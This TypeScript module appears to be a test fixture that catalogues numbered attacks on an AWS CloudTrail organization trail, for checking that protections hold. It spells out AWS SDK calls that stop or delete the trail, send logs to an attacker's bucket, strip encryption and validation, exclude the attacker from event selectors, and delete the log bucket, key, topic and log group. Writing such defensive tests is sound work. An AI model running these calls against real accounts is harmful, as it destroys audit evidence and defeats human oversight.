import {
  AddTagsCommand,
  type AdvancedEventSelector,
  CloudTrailClient,
  DeleteTrailCommand,
  DeregisterOrganizationDelegatedAdminCommand,
  type EventSelector,
  PutEventConfigurationCommand,
  PutEventSelectorsCommand,
  PutInsightSelectorsCommand,
  RegisterOrganizationDelegatedAdminCommand,
  RemoveTagsCommand,
  StopLoggingCommand,
  UpdateTrailCommand,
  type UpdateTrailCommandInput,
} from '@aws-sdk/client-cloudtrail';
import { CloudWatchLogsClient, DeleteLogGroupCommand } from '@aws-sdk/client-cloudwatch-logs';
import { DeleteServiceLinkedRoleCommand, IAMClient } from '@aws-sdk/client-iam';
import { DisableKeyCommand, KMSClient, ScheduleKeyDeletionCommand } from '@aws-sdk/client-kms';
import { DisableAWSServiceAccessCommand, OrganizationsClient } from '@aws-sdk/client-organizations';
import {
  CreateBucketCommand,
  DeleteBucketCommand,
  DeleteBucketPolicyCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { DeleteTopicCommand, SNSClient } from '@aws-sdk/client-sns';
import { arnPrefix } from './home.ts';
import { delegate, home, keyId, outsider, outsidersKey, topicArn } from './seed.ts';
import { serviceLinkedRoleName } from './service-linked-role.ts';

/** One way to weaken the trail, as someone with an administrator's rights would go about it. */
export type Attack = {
  /** The number under which the list of threats has it; a letter where it has more than one form. */
  readonly id: string;
  readonly title: string;
  /** The access key id to call with; an IAM user where it is left out. */
  readonly as?: string;
  /** What it takes away, only a person may give back. */
  readonly forPeople?: true;
  readonly call: (clients: Clients, trail: string) => Promise<unknown>;
};

export type Clients = {
  readonly cloudtrail: CloudTrailClient;
  readonly organizations: OrganizationsClient;
  readonly iam: IAMClient;
  readonly s3: S3Client;
  readonly kms: KMSClient;
  readonly sns: SNSClient;
  readonly logs: CloudWatchLogsClient;
  /** Those of another caller. */
  as(accessKeyId: string): Clients;
};

/** Plain SDK clients of one caller. */
export function clientsOf(endpoint: string, accessKeyId = 'mallory'): Clients {
  const credentials = { accessKeyId, secretAccessKey: 'any' };
  const config = { endpoint, region: home.region, credentials };
  return {
    cloudtrail: new CloudTrailClient(config),
    organizations: new OrganizationsClient(config),
    iam: new IAMClient(config),
    s3: new S3Client({ ...config, forcePathStyle: true }),
    kms: new KMSClient(config),
    sns: new SNSClient(config),
    logs: new CloudWatchLogsClient(config),
    as: (another) => clientsOf(endpoint, another),
  };
}

/** The data events that the trail records, as each kind of selector has them. */
const withObjects = { DataResources: [{ Type: 'AWS::S3::Object', Values: [`${arnPrefix}:s3`] }] };
const objects: AdvancedEventSelector = {
  FieldSelectors: [
    { Field: 'eventCategory', Equals: ['Data'] },
    { Field: 'resources.type', Equals: ['AWS::S3::Object'] },
  ],
};

/** Every way to weaken a trail by a call about the trail or its organization. */
export const attacks: readonly Attack[] = [
  {
    id: 'A1',
    title: 'stops logging',
    call: ({ cloudtrail }, Name) => cloudtrail.send(new StopLoggingCommand({ Name })),
  },
  {
    id: 'A2',
    title: 'deletes the trail',
    as: 'root',
    call: ({ cloudtrail }, Name) => cloudtrail.send(new DeleteTrailCommand({ Name })),
  },
  update('A3', 'sends the log to another bucket', { S3BucketName: 'attacker-bucket' }),
  update('A4', 'hides the log behind a prefix', { S3KeyPrefix: 'no one/looks/here' }),
  update('A5', 'drops every Region but one', { IsMultiRegionTrail: false }),
  update('A6', 'drops IAM and other global services', {
    IsMultiRegionTrail: false,
    IncludeGlobalServiceEvents: false,
  }),
  update('A7', 'turns log file validation off', { EnableLogFileValidation: false }),
  update('A8a', 'has the log encrypted with a key of theirs', {
    KmsKeyId: outsidersKey,
  }),
  { ...update('A8b', 'has the log not encrypted', { KmsKeyId: '' }), as: 'sso-mallory' },
  update('A9', 'cuts CloudWatch Logs off', {
    CloudWatchLogsLogGroupArn: '',
    CloudWatchLogsRoleArn: '',
  }),
  update('A10', 'cuts notifications off', { SnsTopicName: '' }),
  update('A11', 'drops every member account', { IsOrganizationTrail: false }),
  update('A12', 'turns recursive logging on', { RecursiveLogging: true }),
  select('A13', 'records no management events, and data events of nothing', [
    {
      IncludeManagementEvents: false,
      DataResources: [{ Type: 'AWS::S3::Object', Values: [] }],
    },
  ]),
  select('A14a', 'records only what reads', [{ ReadWriteType: 'ReadOnly', ...withObjects }]),
  select('A14b', 'records only what writes', [{ ReadWriteType: 'WriteOnly', ...withObjects }]),
  select('A15', 'leaves KMS out', [
    { ...withObjects, ExcludeManagementEventSources: ['kms.amazonaws.com'] },
  ]),
  selectAdvanced('A16a', 'leaves herself out', [
    {
      FieldSelectors: [
        { Field: 'eventCategory', Equals: ['Management'] },
        { Field: 'userIdentity.arn', NotEquals: [`${arnPrefix}:iam::111122223333:user/mallory`] },
      ],
    },
    objects,
  ]),
  selectAdvanced('A16b', 'records no management events, by an advanced selector', [objects]),
  select('A17', 'drops the data events of S3', [{ IncludeManagementEvents: true }]),
  {
    id: 'A18',
    title: 'turns Insights off',
    call: ({ cloudtrail }, TrailName) =>
      cloudtrail.send(new PutInsightSelectorsCommand({ TrailName, InsightSelectors: [] })),
  },
  {
    id: 'A19',
    title: 'turns the aggregation of events off',
    call: ({ cloudtrail }, TrailName) =>
      cloudtrail.send(
        new PutEventConfigurationCommand({ TrailName, AggregationConfigurations: [] }),
      ),
  },
  {
    id: 'A20a',
    title: 'takes a tag off',
    as: 'role-mallory',
    call: ({ cloudtrail }, ResourceId) =>
      cloudtrail.send(
        new RemoveTagsCommand({ ResourceId, TagsList: [{ Key: 'owner', Value: 'security' }] }),
      ),
  },
  {
    id: 'A20b',
    title: 'puts another tag on',
    call: ({ cloudtrail }, ResourceId) =>
      cloudtrail.send(
        new AddTagsCommand({ ResourceId, TagsList: [{ Key: 'owner', Value: 'mallory' }] }),
      ),
  },
  {
    id: 'F1',
    title: "takes CloudTrail's access to the organization",
    call: ({ organizations }) =>
      organizations.send(
        new DisableAWSServiceAccessCommand({ ServicePrincipal: 'cloudtrail.amazonaws.com' }),
      ),
  },
  {
    id: 'F2',
    title: 'dismisses the administrator of the trails',
    forPeople: true,
    call: ({ cloudtrail }) =>
      cloudtrail.send(
        new DeregisterOrganizationDelegatedAdminCommand({ DelegatedAdminAccountId: delegate }),
      ),
  },
  {
    id: 'F3',
    title: 'makes another account an administrator of the trails',
    forPeople: true,
    call: ({ cloudtrail }) =>
      cloudtrail.send(
        new RegisterOrganizationDelegatedAdminCommand({ MemberAccountId: '333344445555' }),
      ),
  },
  {
    id: 'F4',
    title: "deletes the trail and CloudTrail's service-linked role",
    async call({ cloudtrail, iam }, Name) {
      await cloudtrail.send(new DeleteTrailCommand({ Name }));
      await iam.send(new DeleteServiceLinkedRoleCommand({ RoleName: serviceLinkedRoleName }));
    },
  },
];

const bucket = { Bucket: 'org-trail-logs' };

/** What no call about the trail does: it is broken from where its log goes. */
export const breakages: readonly Attack[] = [
  {
    id: 'B1',
    title: 'takes from the bucket the policy that lets CloudTrail write',
    as: delegate,
    forPeople: true,
    call: ({ s3 }) => s3.send(new DeleteBucketPolicyCommand(bucket)),
  },
  {
    id: 'B3a',
    title: 'deletes the bucket',
    as: delegate,
    forPeople: true,
    call: ({ s3 }) => s3.send(new DeleteBucketCommand(bucket)),
  },
  {
    id: 'B3b',
    title: 'deletes the bucket, and makes one of its name in an account of hers',
    as: delegate,
    forPeople: true,
    async call({ s3, as }) {
      await s3.send(new DeleteBucketCommand(bucket));
      await as(outsider.accountId).s3.send(new CreateBucketCommand(bucket));
    },
  },
  {
    id: 'C1',
    title: 'disables the key of the log',
    forPeople: true,
    call: ({ kms }) => kms.send(new DisableKeyCommand({ KeyId: keyId })),
  },
  {
    id: 'C2',
    title: 'has the key of the log deleted',
    forPeople: true,
    call: ({ kms }) => kms.send(new ScheduleKeyDeletionCommand({ KeyId: keyId })),
  },
  {
    id: 'D1',
    title: 'deletes the topic',
    forPeople: true,
    call: ({ sns }) => sns.send(new DeleteTopicCommand({ TopicArn: topicArn })),
  },
  {
    id: 'E1',
    title: 'deletes the log group',
    forPeople: true,
    call: ({ logs }) => logs.send(new DeleteLogGroupCommand({ logGroupName: 'org-trail' })),
  },
];

function update(id: string, title: string, patch: Omit<UpdateTrailCommandInput, 'Name'>): Attack {
  const call: Attack['call'] = ({ cloudtrail }, Name) =>
    cloudtrail.send(new UpdateTrailCommand({ Name, ...patch }));
  return { id, title, call };
}

function select(id: string, title: string, EventSelectors: EventSelector[]): Attack {
  const call: Attack['call'] = ({ cloudtrail }, TrailName) =>
    cloudtrail.send(new PutEventSelectorsCommand({ TrailName, EventSelectors }));
  return { id, title, call };
}

function selectAdvanced(
  id: string,
  title: string,
  AdvancedEventSelectors: AdvancedEventSelector[],
): Attack {
  const call: Attack['call'] = ({ cloudtrail }, TrailName) =>
    cloudtrail.send(new PutEventSelectorsCommand({ TrailName, AdvancedEventSelectors }));
  return { id, title, call };
}
